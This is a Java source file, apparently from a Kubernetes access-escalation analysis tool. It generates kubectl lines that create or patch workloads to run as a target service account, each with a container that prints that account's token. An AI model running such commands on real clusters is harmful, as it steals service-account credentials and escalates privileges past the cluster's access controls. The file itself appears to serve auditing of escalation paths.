package dev.muster.access.escalation;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.muster.access.escalation.Inventory.Workload;
import dev.muster.base.ServiceAccountName;
import dev.muster.views.AppsV1.MutableDeployment;
import dev.muster.views.BatchV1.MutableCronJob;
import dev.muster.views.BatchV1.MutableCronJobSpec;
import dev.muster.views.BatchV1.MutableJob;
import dev.muster.views.CoreV1.MutableContainer;
import dev.muster.views.CoreV1.MutablePodSpec;
import dev.muster.views.CoreV1.MutablePodTemplateSpec;
import dev.muster.views.CoreV1.MutableReplicationController;
import dev.muster.views.MetaV1.MutablePartialObjectMetadata;
import java.util.List;

/** Things that make pods, as one would write them. */
final class PodTemplateLines {
  private static final List<String> READ =
      List.of("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token");

  private PodTemplateLines() {}

  static String create(KubectlLines kubectl, Hold hold, ServiceAccountName account) {
    Lever lever = hold.lever();
    ObjectNode object = JsonNodeFactory.instance.objectNode();
    MutablePartialObjectMetadata made = MutablePartialObjectMetadata.of(object);
    made.apiVersion(lever.group().isEmpty() ? "v1" : lever.group() + "/v1").kind(kind(lever));
    made.metadata().ensure().name("path");
    MutablePodTemplateSpec template = template(lever, object);
    MutablePodSpec pod = template.spec().ensure().serviceAccountName(account.name());
    if (lever == Lever.CREATE_JOBS || lever == Lever.CREATE_CRON_JOBS) {
      pod.restartPolicy("Never");
    } else {
      template.metadata().ensure().labels().map().put("app", "path");
      selector(lever, object).put("app", "path");
    }
    read(pod);
    return "printf %s "
        + ShellText.quote(object.toString())
        + " | "
        + kubectl.line(hold.by(), account.namespace(), "create -f -");
  }

  /** What the pods of an object are made from. */
  private static MutablePodTemplateSpec template(Lever lever, ObjectNode object) {
    return switch (lever) {
      case CREATE_CONTROLLERS ->
          MutableReplicationController.of(object).spec().ensure().template().ensure();
      case CREATE_JOBS -> MutableJob.of(object).spec().ensure().template().ensure();
      case CREATE_CRON_JOBS -> {
        MutableCronJobSpec spec = MutableCronJob.of(object).spec().ensure().schedule("* * * * *");
        yield spec.jobTemplate().ensure().spec().ensure().template().ensure();
      }
      default -> MutableDeployment.of(object).spec().ensure().template().ensure();
    };
  }

  /** By which labels an object knows its pods: the others have a spec as deployments do. */
  private static ObjectNode selector(Lever lever, ObjectNode object) {
    return lever == Lever.CREATE_CONTROLLERS
        ? MutableReplicationController.of(object).spec().ensure().selector().map()
        : MutableDeployment.of(object).spec().ensure().selector().ensure().matchLabels().map();
  }

  /** A container that shows the token. */
  private static void read(MutablePodSpec pod) {
    MutableContainer container = pod.containers().add().name("path").image("busybox");
    READ.forEach(container.command().list()::add);
  }

  private static String kind(Lever lever) {
    return switch (lever) {
      case CREATE_CONTROLLERS -> "ReplicationController";
      case CREATE_DAEMON_SETS -> "DaemonSet";
      case CREATE_REPLICA_SETS -> "ReplicaSet";
      case CREATE_STATEFUL_SETS -> "StatefulSet";
      case CREATE_JOBS -> "Job";
      case CREATE_CRON_JOBS -> "CronJob";
      default -> "Deployment";
    };
  }

  static String patch(
      KubectlLines kubectl, Hold hold, Workload workload, ServiceAccountName account) {
    ObjectNode patch = JsonNodeFactory.instance.objectNode();
    Lever lever =
        workload.resource().equals("cronjobs") ? Lever.CREATE_CRON_JOBS : Lever.CREATE_DEPLOYMENTS;
    MutablePodSpec pod = template(lever, patch).spec().ensure();
    pod.serviceAccountName(account.name());
    read(pod);
    return kubectl.patch(
        hold.by(), workload.namespace(), workload.resource(), workload.name(), patch);
  }
}
